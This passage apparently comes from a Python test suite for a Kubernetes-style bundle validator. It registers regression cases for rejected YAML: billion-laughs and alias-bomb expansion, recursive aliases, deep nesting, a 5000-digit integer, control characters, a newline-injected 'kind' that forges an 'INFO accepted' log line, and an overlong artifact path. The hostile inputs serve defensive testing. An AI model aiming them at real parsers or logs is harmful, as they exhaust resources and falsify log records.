    _manifest(_billion_laughs(levels=9, fan_out=9) + NAMESPACE_HEAD + b"metadata: {name: x}\n")
)
case("yaml-too-many-aliases", Code.YAML_INVALID, detail="aliases")(
    _manifest(
        b"a: &a x\nb: ["
        + b", ".join([b"*a"] * 101)
        + b"]\n"
        + NAMESPACE_HEAD
        + b"metadata: {name: x}\n"
    )
)
case("yaml-recursive-alias", Code.YAML_INVALID, detail="contains it")(
    _manifest(NAMESPACE_HEAD + b"metadata: &m {name: x, self: *m}\n")
)
case("yaml-nesting-too-deep", Code.YAML_INVALID, detail="nesting")(
    _manifest(NAMESPACE_HEAD + b"metadata: {name: x}\ndata: " + b"[" * 100 + b"]" * 100 + b"\n")
)
case("yaml-not-kubernetes-object", Code.YAML_INVALID, detail="not a mapping")(
    _manifest(b"- apiVersion\n- kind\n")
)
case("yaml-object-without-name", Code.YAML_INVALID, detail="metadata.name")(
    _manifest(NAMESPACE_HEAD + b"metadata: {labels: {a: b}}\n")
)
# Regression: the kind was quoted raw (multi-line message).
case("yaml-kind-with-newline", Code.YAML_INVALID, detail="metadata.name")(
    _manifest(b'apiVersion: v1\nkind: "Namespace\\nINFO accepted"\nmetadata: {}\n')
)
# Regression: the loader was built outside the try, so PyYAML's ReaderError escaped.
case("yaml-control-character", Code.YAML_INVALID, detail="control characters")(
    _manifest(NAMESPACE_HEAD + b"metadata: {name: x}\ndata: {bell: \x07}\n")
)
# Regression: int() of more than 4300 digits (sys.int_max_str_digits) raised ValueError.
case("yaml-huge-integer", Code.YAML_INVALID)(
    _manifest(NAMESPACE_HEAD + b"metadata: {name: x}\ndata: {n: " + b"9" * 5000 + b"}\n")
)


# ======================================================================================
# Message bounds
# ======================================================================================


@case("hash-mismatch-on-longest-path", Code.HASH_MISMATCH)
def _hash_mismatch_on_longest_path() -> Scenario:
    # Regression: the whole 255-byte path went into the message, past 300 characters.
    authority = Authority()
    path = "artifacts/" + "x-" * 60 + "/" + "y-" * 62
    assert len(path) == 255
    files = {NAMESPACE_PATH: NAMESPACE_YAML, APP_PATH: APP_YAML, path: ARTIFACT_BYTES}
    envelope = authority.sign_bundle(metadata_payload(files=files, artifacts=[(path, "file")]))
    return at_site(authority, bundle_archive(envelope, {**files, path: ARTIFACT_BYTES.upper()}))
